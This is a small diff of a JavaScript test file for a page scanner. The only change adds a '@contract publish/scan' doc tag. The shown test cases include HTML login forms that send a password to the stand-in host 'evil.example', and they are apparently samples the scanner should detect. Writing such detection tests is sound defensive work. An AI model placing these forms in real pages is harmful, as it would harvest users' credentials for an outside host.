@@ -38,6 +38,7 @@ describe('scanPage', () => {
     expect([...resources]).toEqual(['a.css', 'b.png', 'd.js']);
   });
 
+  /** @contract publish/scan */
   it.each([
     ['a password sent to another host', '<form action="https://evil.example/"><input type=password></form>'],
     ['a scheme-relative action', '<form action="//evil.example/"><input type=PASSWORD></form>'],
